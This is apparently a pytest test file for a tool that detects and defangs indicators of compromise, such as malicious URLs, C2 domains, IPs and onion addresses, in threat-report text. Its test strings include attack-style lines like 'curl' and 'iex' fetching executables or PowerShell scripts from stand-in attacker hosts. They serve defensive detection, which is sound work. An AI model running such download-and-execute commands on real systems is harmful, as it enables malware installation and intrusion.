import pytest

from stages.validate.credentials import replaced
from stages.validate.indicators import find_indicators

DEFANGED = {
    "Get http://evil-updates.net/a/run.exe, then wait": ("payload-address", "Get hxxp://evil-updates[.]net/a/run.exe, then wait"),
    "iex https://cdn.bad.io/x.ps1?id=3": ("payload-address", "iex hxxps://cdn[.]bad[.]io/x.ps1?id=3"),
    "Beacons to http://45.9.148.3/gate.php": ("address-by-ip", "Beacons to hxxp://45[.]9[.]148[.]3/gate.php"),
    "via tcp://45.9.148.3:4444": ("address-by-ip", "via tcp[:]//45[.]9[.]148[.]3:4444"),
    "http://abcdefabcdefabcd.onion/": ("onion-address", "hxxp://abcdefabcdefabcd[.]onion/"),
    "The C2 server 45.9.148.3 answers": ("public-ip", "The C2 server 45[.]9[.]148[.]3 answers"),
    "hosted on a server at 45.9.148.3, it": ("public-ip", "hosted on a server at 45[.]9[.]148[.]3, it"),
    "Get ftp://bob:pass@evil.net/x.exe now": ("payload-address", "Get ftp[:]//bob:pass@evil[.]net/x.exe now"),
    "The C2 domain update-cdn.net answers": ("malicious-domain", "The C2 domain update-cdn[.]net answers"),
    "It beacons to `ms-sync.top` daily.": ("malicious-domain", "It beacons to `ms-sync[.]top` daily."),
    "phishing sites such as login-mail.info.": ("malicious-domain", "phishing sites such as login-mail[.]info."),
    "command and control server (HTTPS): api.bad-cdn.co.uk": (
        "malicious-domain",
        "command and control server (HTTPS): api[.]bad-cdn[.]co[.]uk",
    ),
    "curl http://evil.example.com/malware.exe": ("payload-address", "curl hxxp://evil[.]example[.]com/malware.exe"),
    "from http://malicious.example/payload.exe": ("payload-address", "from hxxp://malicious[.]example/payload.exe"),
    "It opens 203.0.113.7:4444": ("public-ip", "It opens 203[.]0[.]113[.]7:4444"),
    "The malware talks to 192.0.2.9:8080 daily": ("public-ip", "The malware talks to 192[.]0[.]2[.]9:8080 daily"),
    "Get http://198.51.100.23/x.exe": ("address-by-ip", "Get hxxp://198[.]51[.]100[.]23/x.exe"),
    "The implant asks http://198.51.100.23/gate": ("address-by-ip", "The implant asks hxxp://198[.]51[.]100[.]23/gate"),
    "Run http://example.com/malware.exe": ("payload-address", "Run hxxp://example[.]com/malware.exe"),
    "C2: http://evil.example.com/gate": ("malicious-address", "C2: hxxp://evil[.]example[.]com/gate"),
    "C2 at 203.0.113.5": ("public-ip", "C2 at 203[.]0[.]113[.]5"),
    "The C2 server is 45.9.148.3": ("public-ip", "The C2 server is 45[.]9[.]148[.]3"),
    "The C2 domain is c2.example.com": ("malicious-domain", "The C2 domain is c2[.]example[.]com"),
    "The malware posts to http://evil-gate.top/gate.php": (
        "malicious-address",
        "The malware posts to hxxp://evil-gate[.]top/gate.php",
    ),
    "Victims visited https://paypa1-login.xyz/verify": (
        "malicious-address",
        "Victims visited hxxps://paypa1-login[.]xyz/verify",
    ),
    "the phishing page at https://login-x.top/a": ("malicious-address", "the phishing page at hxxps://login-x[.]top/a"),
    "The dropper fetches https://cdn-x.top/a.js": ("payload-address", "The dropper fetches hxxps://cdn-x[.]top/a.js"),
    "A phishing mail links https://files-x.top/bill.zip": (
        "payload-address",
        "A phishing mail links hxxps://files-x[.]top/bill.zip",
    ),
    "Pay at abcdefabcdefabcd.onion today": ("onion-address", "Pay at abcdefabcdefabcd[.]onion today"),
    "It opens 45.9.148.3:8443 then": ("public-ip", "It opens 45[.]9[.]148[.]3:8443 then"),
}


@pytest.mark.parametrize("text", DEFANGED)
def test_live_indicators_are_defanged_and_stay_so(text: str) -> None:
    rule, after = DEFANGED[text]
    spans = find_indicators(text)
    assert [span.rule for span in spans] == [rule]
    assert replaced(text, spans) == after and find_indicators(after) == []


@pytest.mark.parametrize(
    "text",
    [
        "See https://attack.mitre.org/techniques/T1059 and https://www.vendor.com/security/advisory.html.",
        "Metadata service http://169.254.169.254/latest, http://127.0.0.1:8080/x.exe and http://192.168.1.1/a.sh",
        "http://www.example.com/setup.exe is an example, so is http://localhost/x.dll",
        "Versions before 23.10.3.0 and 5.0.4.1 (build 11.6.0.626) of the server are affected.",
        "F5 BIG-IP 16.1.2.2, Exchange Server 15.1.2.3, Citrix Server: 13.0.47.24 and SAP Host 7.2.11.9 before the fix",
        "hxxp://evil[.]net/a.exe is defanged already",
        "The C2 server evil.exe, the payload site index.php and the malicious host process svchost.exe.",
        "The C2 server api.telegram.org, malicious sites on github.com, the phishing site www.example.com",
        "Adversaries use C2 over DNS. Domains such as vendor-site.com resolve. The malicious domain is blocked. See wikipedia.org",
        "the C2 domain update-cdn[.]net, C2 (e.g. over HTTP), IoCs e.g. hashes; System.Net.WebClient, a malicious URL.create call",
        "Redirect to http://evil.example.com/ or http://attack.example.com/stealPassword.php",
        "NAT maps 192.0.2.1:8080 to 198.51.100.7:443; curl http://192.0.2.10/status; IP address 192.0.2.44",
        "For the malware see https://www.vendor.com/blog/apt1.html. The script is https://cdn.vendor.net/x.js",
        "Users visited https://www.vendor.com/login. Log4j: https://archive.apache.org/dist/log4j.zip",
        "The malware posts to https://api.telegram.org/bot1/send and https://github.com/org/x",
        '["https://blog.vendor.com/apt1-malware-drops-backdoor/", "https://site-a.org/tool.zip"]',
        "Tor names end in .onion, such as example.onion",
        "OID 1.3.6.1.4.1.311, file 999.999.999.999:80",
    ],
)
def test_documentation_private_and_reserved_places_and_versions_stay(text: str) -> None:
    assert find_indicators(text) == []


def test_every_domain_of_a_list_is_defanged() -> None:
    text = "Indicators of compromise: a-cdn.net, b-cdn.net and c-cdn.org; see vendor.com for more."
    after = replaced(text, find_indicators(text))
    assert after == "Indicators of compromise: a-cdn[.]net, b-cdn[.]net and c-cdn[.]org; see vendor.com for more."
